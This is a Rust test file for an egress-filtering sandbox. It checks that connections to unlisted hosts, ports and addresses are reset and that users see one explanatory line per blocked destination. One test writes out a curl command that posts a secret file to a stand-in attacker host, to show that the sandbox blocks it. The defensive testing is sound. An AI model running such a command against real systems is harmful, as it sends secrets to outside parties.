//! What happens to a destination that nothing allows? A reset for the client, one line for the user, no packet for the host. (E1, E2)

use std::net::IpAddr;

use bottle_lab::addresses::WEB;

use crate::world::World;

/// Nothing at all may have reached the internet.
fn nothing_arrived(world: &World) {
    assert!(world.lab.dns_queries().unwrap().is_empty());
    for service in ["web", "collector", "echo", "udp", "ssh", "postgres", "smtp"] {
        assert!(world.lab.received(service).unwrap().is_empty(), "{service}");
    }
}

#[test]
fn a_secret_that_is_posted_to_an_unknown_host_stays_inside() {
    let world = World::new();
    world.write("secret", "TOKEN=1");
    let urls =
        ["https://evil.attacker.example/", "http://evil.attacker.example/", "https://11.6.6.6/", "http://11.6.6.6/"];
    for url in urls {
        let run = world.allow(&["api.allowed.example"]).run(&["curl", "-sS", "-d", "@secret", url]);
        assert!(run.code != 0 && run.out.is_empty(), "{url}: {}", run.out);
    }
    nothing_arrived(&world);
}

#[test]
fn without_a_rule_nothing_is_reached() {
    let world = World::new();
    for bottle in [world.bottle(&[]), world.policy("domains: []\n"), world.policy("")] {
        let (said, _) = bottle.python("print(https('api.allowed.example'), https('11.1.0.1'))");
        assert_eq!(said, ["NONAME ECONNRESET"]);
    }
    nothing_arrived(&world);
}

#[test]
fn another_port_of_an_allowed_name_is_reset_before_any_packet() {
    let world = World::new();
    let script = "print(https('api.allowed.example', 8443), http('api.allowed.example'))
print(end(lambda: tcp('api.allowed.example', 22).recv(1)))";
    let (said, run) = world.allow(&["api.allowed.example"]).python(script);
    assert_eq!(said, ["ECONNRESET ECONNRESET", "ECONNRESET"]);
    assert_eq!(run.log.reasons(), ["port-not-allowed"; 3]);
    nothing_arrived(&world);
}

#[test]
fn a_denied_connection_ends_with_a_reset_even_when_it_never_sends() {
    let world = World::new();
    let (said, run) = world.bottle(&[]).python("print(end(lambda: tcp('11.6.6.6', 443).recv(1)))");
    assert_eq!(said, ["ECONNRESET"]);
    let (decision, outcome) = run.log.attempt();
    assert_eq!(decision.address, "11.6.6.6".parse::<IpAddr>().unwrap());
    assert_eq!((outcome.bytes_up, outcome.bytes_down), (Some(0), Some(0)));
}

#[test]
fn an_allowed_name_is_not_dialled_before_the_client_shows_what_it_wants() {
    let world = World::new();
    let script = "stream = tcp('api.allowed.example', 443)
stream.sendall(b'\\x16\\x03\\x01')
sys.stdout.write('connected\\n'); sys.stdout.flush(); sys.stdin.readline()
stream.close()";
    let bottle = world.allow(&["api.allowed.example"]);
    let mut child = bottle.start(&["python3", "-c", &format!("from client import *\n{script}")]);
    let mut line = String::new();
    std::io::BufRead::read_line(&mut std::io::BufReader::new(child.stdout.as_mut().unwrap()), &mut line).unwrap();
    assert_eq!(line, "connected\n");
    nothing_arrived(&world);
    crate::world::go_on(&mut child);
    assert!(child.wait().unwrap().success());
    let log = crate::log::Log::read(bottle.audit());
    assert_eq!(log.reasons(), ["unparsable"]);
    nothing_arrived(&world);
}

#[test]
fn each_blocked_destination_is_told_once_with_what_would_allow_it() {
    let world = World::new();
    let script =
        "for _ in range(5): https('11.6.6.6'), https('api.allowed.example', 8443), https('evil.attacker.example')";
    let (_, run) = world.allow(&["api.allowed.example"]).python(script);
    let blocked: Vec<&str> = run.err.lines().filter(|line| line.contains("blocked ")).collect();
    assert_eq!(blocked.len(), 3, "{}", run.err);
    for (place, mend) in [
        ("11.6.6.6:443", "ip_ranges"),
        ("api.allowed.example:8443", "--allow api.allowed.example:8443"),
        ("evil.attacker.example", "--allow evil.attacker.example"),
    ] {
        let line = blocked.iter().find(|line| line.contains(place)).unwrap_or_else(|| panic!("{place}: {}", run.err));
        assert!(line.contains(mend), "{line}");
    }
}

#[test]
fn an_allowed_name_that_cannot_be_dialled_is_told_once_with_what_would_help() {
    let world = World::new();
    let names = ["private", "mixed", "loopback", "metadata", "no-such", "nodata", "failure", "unreachable"];
    let script = format!("for name in {names:?} * 2: https(name + '.lab.example')");
    let rules = "domains:\n  - pattern: \"*.lab.example\"\n    ports: [443]\n";
    let (_, run) = world.policy(rules).python(&script);
    assert_eq!(run.log.attempts().len(), 2 * names.len());
    let advice = "to allow it: add `allow_private: true` to domains[0] at ";
    for (name, what, helps) in [
        ("private", "(resolved to 10.1.2.3)", true),
        ("mixed", "10.1.2.3", true),
        ("loopback", "the host's own", false),
        ("metadata", "metadata service", false),
        ("no-such", "which is allowed: cannot resolve no-such.lab.example: there is no such name", false),
        ("nodata", "it has no address", false),
        ("failure", "which is allowed: cannot resolve", false),
        ("unreachable", "which is allowed: ", false),
    ] {
        let lines: Vec<&str> =
            run.err.lines().filter(|line| line.contains(&format!("{name}.lab.example:443"))).collect();
        assert_eq!(lines.len(), 1, "{name}: {}", run.err);
        assert!(lines[0].contains(what) && lines[0].contains(advice) == helps, "{}", run.err);
    }
    let (_, run) = world.allow(&["private.lab.example"]).python("https('private.lab.example')");
    let entry =
        "to allow it: add `{ pattern: \"private.lab.example\", ports: [443], allow_private: true }` to `domains`";
    assert!(run.err.contains(entry), "{}", run.err);
}

#[test]
fn a_range_allows_the_addresses_in_it_and_no_others() {
    let world = World::new();
    let rules = "ip_ranges:\n  - cidr: \"11.1.0.0/24\"\n    ports: [443]\n    reason: \"the web\"\n";
    let (said, run) = world
        .policy(rules)
        .python("print(https('11.1.0.1', name='api.allowed.example'), https('11.1.0.1', 8443), https('11.1.1.1'))");
    assert_eq!(said, ["200 ECONNRESET ECONNRESET"]);
    assert_eq!(run.log.attempts()[0].1.upstream, Some(WEB.into()));
    assert_eq!(run.log.reasons(), ["port-not-allowed", "literal-address"]);
    assert!(world.lab.dns_queries().unwrap().is_empty());
}
